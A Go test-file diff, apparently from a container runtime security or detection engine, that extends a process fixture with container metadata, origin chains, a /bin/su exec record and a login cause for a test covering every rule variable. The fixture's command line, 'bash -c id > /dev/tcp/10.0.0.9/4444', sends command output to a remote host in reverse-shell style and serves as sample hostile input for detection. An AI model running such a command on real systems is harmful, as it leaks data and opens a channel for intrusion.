@@ -78,7 +78,8 @@ func shell() *event.Process {
 		Cmdline: "bash\x00-c\x00id > /dev/tcp/10.0.0.9/4444\x00",
 		Workload: &event.Workload{
 			Place: event.PlaceContainer, ContainerID: "c1", ContainerName: "web", Image: "alpine:3", PodUID: "u",
-			Pod: &event.Pod{UID: "u", Namespace: "shop", Name: "web-0", Labels: map[string]string{"app": "web"}},
+			Container: &event.Container{Name: "web", Image: "alpine:3", ImageDigest: "sha256:00"},
+			Pod:       &event.Pod{UID: "u", Namespace: "shop", Name: "web-0", Labels: map[string]string{"app": "web"}},
 		},
 	})
 }
@@ -545,6 +546,10 @@ func TestEveryVariable(t *testing.T) {
 	known := shell()
 	known.File = "/bin/bash"
 	known.Workload.Runtime = "containerd"
+	for p, o := known, event.OriginSession; p != nil; p, o = p.Parent, event.OriginChild {
+		p.Origin = o
+	}
+	rec := &event.Record{Kind: event.Exec, Facts: event.Facts{From: event.SourceRecord, Have: event.FieldSet(event.FieldExe), Exe: []byte("/bin/su")}}
 	for _, v := range e.Variables() {
 		k := event.Exec
 		if v.Kinds != 0 {
@@ -562,7 +567,8 @@ func TestEveryVariable(t *testing.T) {
 			t.Errorf("%s of a process nothing is known about is %v", v.Name, got)
 		}
 		a = e.NewActivation("n1")
-		a.Reset(&event.Event{Kind: k, Process: known, Target: known, HasBefore: true, HasPrev: true, Duration: time.Second})
+		a.Reset(&event.Event{Kind: k, Process: known, Target: known, Record: rec, HasBefore: true, HasPrev: true, Duration: time.Second,
+			Cause: event.CauseLogin})
 		if got := a.value(slot); got == missing {
 			t.Errorf("%s is missing of a process everything is known about", v.Name)
 		} else if name := got.Type().TypeName(); !strings.HasPrefix(v.Type, strings.TrimPrefix(name, "google.protobuf.")) && !strings.HasPrefix(name, v.Type) && !strings.Contains(strings.ToLower(name), strings.ToLower(v.Type)) {
